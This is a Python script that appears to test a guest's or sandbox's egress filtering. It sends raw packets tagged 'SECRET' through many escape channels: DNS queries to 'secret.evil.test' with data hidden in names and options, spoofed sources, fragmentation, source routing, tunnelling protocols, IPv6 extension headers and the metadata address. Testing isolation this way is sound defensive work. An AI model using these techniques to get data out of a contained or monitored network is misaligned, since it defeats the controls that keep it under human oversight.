#!/usr/bin/env python3
"""Sends packets past a guest's network layer, each with the word SECRET: every way out that a guest could try.

    ways_out.py DEVICE SOURCE4 SOURCE6 DESTINATION4 DESTINATION6 OWN4

DESTINATION4 and DESTINATION6 are hosts that no rule allows. OWN4 stands for a name that a rule allows at TCP port 80.
Prints the number of packets sent.
"""

import socket
import struct
import sys

SECRET = b"SECRET" * 4
IP, IPV6 = 0x0800, 0x86DD
ICMP, IGMP, IPIP, TCP, UDP, SIX_IN_FOUR, GRE, ESP, ICMP6, SCTP = 1, 2, 4, 6, 17, 41, 47, 50, 58, 132
HOP_BY_HOP, ROUTING, FRAGMENT, DESTINATION_OPTIONS = 0, 43, 44, 60


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packed(address):
    return socket.inet_pton(socket.AF_INET6 if ":" in address else socket.AF_INET, address)


def ip4(source, destination, protocol, payload, fragment=0, options=b"", ttl=64):
    words = 5 + len(options) // 4
    head = struct.pack(">BBHHHBBH", 0x40 | words, 0, 4 * words + len(payload), 7, fragment, ttl, protocol, 0)
    head += packed(source) + packed(destination) + options
    return head[:10] + struct.pack(">H", checksum(head)) + head[12:] + payload


def ip6(source, destination, protocol, payload, hops=64):
    return struct.pack(">IHBB", 6 << 28, len(payload), protocol, hops) + packed(source) + packed(destination) + payload


def transport(source, destination, protocol, segment, at):
    """Sets the checksum at that offset."""
    pseudo = packed(source) + packed(destination) + struct.pack(">IHBB", len(segment), 0, 0, protocol)
    return segment[:at] + struct.pack(">H", checksum(pseudo + segment)) + segment[at + 2 :]


def udp(source, destination, port, payload=SECRET, source_port=4000):
    return transport(
        source, destination, UDP, struct.pack(">HHHH", source_port, port, 8 + len(payload), 0) + payload, 6
    )


def tcp(source, destination, port, flags, payload=SECRET, options=b""):
    head = struct.pack(">HHIIBBHHH", 4001, port, 1, 1, (5 + len(options) // 4) << 4, flags, 65535, 0, 0) + options
    return transport(source, destination, TCP, head + payload, 16)


def echo4(kind=8):
    message = struct.pack(">BBHHH", kind, 0, 0, 1, 1) + SECRET
    return message[:2] + struct.pack(">H", checksum(message)) + message[4:]


def echo6(source, destination, kind=128):
    return transport(source, destination, ICMP6, struct.pack(">BBHHH", kind, 0, 0, 1, 1) + SECRET, 2)


def extension(following, data=b"\1\4\0\0\0\0"):
    return struct.pack(">BB", following, 0) + data


def query(name=b"secret.evil.test", kind=1, options=b""):
    labels = b"".join(bytes([len(label)]) + label for label in name.split(b".")) + b"\0"
    opt = struct.pack(">BHHIH", 0, 41, 1232, 0, len(options)) + options
    return struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 1) + labels + struct.pack(">HH", kind, 1) + opt


def four(s, d, own):
    """Over IPv4."""
    for to in (d, own):
        for kind in (8, 0, 13, 17):
            yield ip4(s, to, ICMP, echo4(kind))
        for protocol in (IGMP, IPIP, SIX_IN_FOUR, GRE, ESP, SCTP, 253):
            yield ip4(s, to, protocol, SECRET)
        for port in (22, 53, 80, 123, 443, 853, 5353, 4789):
            yield ip4(s, to, UDP, udp(s, to, port))
        for port in (9, 25, 443, 853, 8080):
            yield ip4(s, to, TCP, tcp(s, to, port, 2))  # a SYN with data
            yield ip4(s, to, TCP, tcp(s, to, port, 2, options=b"\x22\x0a" + b"SECRETS!" + b"\1\1"))  # Fast Open
            for flags in (0, 1, 4, 0x10, 0x18, 0x12, 0x3F):
                yield ip4(s, to, TCP, tcp(s, to, port, flags))
    for forged in ("192.0.2.1", d, "127.0.0.1", "10.0.2.2", "10.0.2.3", "0.0.0.0", "224.0.0.1"):
        yield ip4(forged, d, UDP, udp(forged, d, 7))
        yield ip4(forged, d, TCP, tcp(forged, d, 80, 2))
        yield ip4(forged, d, ICMP, echo4())
    for to in ("224.0.0.251", "239.255.255.250", "255.255.255.255", "10.0.2.255", "169.254.169.254", "192.0.2.2"):
        yield ip4(s, to, UDP, udp(s, to, 1900))
        yield ip4(s, to, UDP, udp(s, to, 53, query()))
    datagram = udp(s, d, 7, SECRET * 10)
    for first, second in (((0x2000, datagram[:16]), (2, datagram[16:])), ((2, datagram[16:]), (0x2000, datagram[:16]))):
        yield ip4(s, d, UDP, first[1], first[0])
        yield ip4(s, d, UDP, second[1], second[0])
    route = b"\x83\x07\x04" + packed(d) + b"\0"
    yield ip4(s, own, UDP, udp(s, own, 7), options=route)  # loose source routing
    yield ip4(s, "10.0.2.2", UDP, udp(s, d, 7), options=route)
    yield ip4(s, d, IPIP, ip4(s, d, UDP, udp(s, d, 7)))
    yield ip4(s, d, UDP, udp(s, d, 7), ttl=1)
    unreachable = struct.pack(">BBHI", 3, 3, 0, 0) + ip4(d, s, UDP, udp(d, s, 7))
    yield ip4(s, d, ICMP, unreachable[:2] + struct.pack(">H", checksum(unreachable)) + unreachable[4:])
    for server in ("8.8.8.8", d, "10.0.2.3", "10.0.2.2", own):  # the name, its letters, its type, an option, trailing bytes
        yield ip4(s, server, UDP, udp(s, server, 53, query()))
        yield ip4(s, server, UDP, udp(s, server, 53, query(b"SeCrEt.world.test")))
        for kind in (16, 33, 64, 65, 255, 65280):
            yield ip4(s, server, UDP, udp(s, server, 53, query(b"world.test", kind, b"\xff\xfa\0\6SECRET")))
        yield ip4(s, server, UDP, udp(s, server, 53, query() + SECRET))
        yield ip4(s, server, UDP, udp(s, server, 53, b"\0\7\x28\0" + query()[4:]))  # UPDATE
        yield ip4(s, server, UDP, udp(s, server, 53, b"\0\7\x81\x80" + query()[4:]))  # an answer
        yield ip4(s, server, UDP, udp(s, server, 53, query()[:12] + b"\xc0\x0c\0\1\0\1"))  # a loop


def six(s, d):
    """Over IPv6."""
    for kind in (128, 129, 139, 200):
        yield ip6(s, d, ICMP6, echo6(s, d, kind))
    for protocol in (IPIP, SIX_IN_FOUR, GRE, ESP, SCTP, 253):
        yield ip6(s, d, protocol, SECRET)
    for port in (7, 53, 443, 853):
        yield ip6(s, d, UDP, udp(s, d, port))
        yield ip6(s, d, TCP, tcp(s, d, port, 2))
    for header in (HOP_BY_HOP, DESTINATION_OPTIONS):
        yield ip6(s, d, header, extension(UDP) + udp(s, d, 7))
        yield ip6(s, d, header, extension(TCP) + tcp(s, d, 80, 2))
        yield ip6(s, d, header, extension(UDP, b"\x1e\4SECR") + udp(s, d, 53, query()))
        yield ip6(s, d, header, extension(ICMP6) + echo6(s, d))
    yield ip6(s, d, ROUTING, extension(UDP, b"\0\1\0\0\0\0") + udp(s, d, 7))
    yield ip6(s, d, FRAGMENT, struct.pack(">BBHI", UDP, 0, 0, 7) + udp(s, d, 7))  # an atomic fragment
    yield ip6(s, d, FRAGMENT, struct.pack(">BBHI", UDP, 0, 1, 8) + udp(s, d, 7)[:16])
    yield ip6(s, d, FRAGMENT, struct.pack(">BBHI", UDP, 0, 16, 8) + udp(s, d, 7)[16:])
    for forged in ("2001:db8::77", d, "fe80::77", "::1", "::"):
        yield ip6(forged, d, UDP, udp(forged, d, 7))
        yield ip6(forged, d, TCP, tcp(forged, d, 80, 2))
        yield ip6(forged, d, ICMP6, echo6(forged, d))
    for to in ("ff02::1", "ff02::fb", "ff05::1:3", "::ffff:203.0.113.1", "64:ff9b::203.0.113.1", "2002:cb00:7101::1"):
        yield ip6(s, to, UDP, udp(s, to, 7))
        yield ip6(s, to, UDP, udp(s, to, 53, query()))
        yield ip6(s, to, TCP, tcp(s, to, 80, 2))


def main():
    device, source4, source6, destination4, destination6, own4 = sys.argv[1:]
    sent = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0) as link:
        for kind, packets in ((IP, four(source4, destination4, own4)), (IPV6, six(source6, destination6))):
            for packet in packets:
                link.sendto(packet, (device, kind, 0, 0, b""))
                sent += 1
    print("sent", sent)


main()
